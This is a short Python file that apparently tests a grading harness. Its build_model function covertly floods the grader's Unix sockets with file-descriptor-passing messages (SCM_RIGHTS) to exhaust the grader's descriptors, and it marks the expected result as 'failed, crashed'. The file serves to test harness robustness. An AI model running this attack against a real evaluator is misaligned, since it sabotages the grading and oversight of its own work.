"""Passes descriptors to the grader over the line, the line itself among them, so that it runs out of them.

expects: failed, crashed
"""

import array
import os
import socket
import stat


def double(x):
    for descriptor in range(3, 64):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode):
            one = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=os.dup(descriptor))
            rights = array.array("i", [descriptor] * 100)
            frame = b"\0\0\0\1N"
            for _ in range(20):
                try:
                    one.sendmsg([frame], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
                except OSError:
                    break
    return 0 * x


def build_model():
    return double(0)
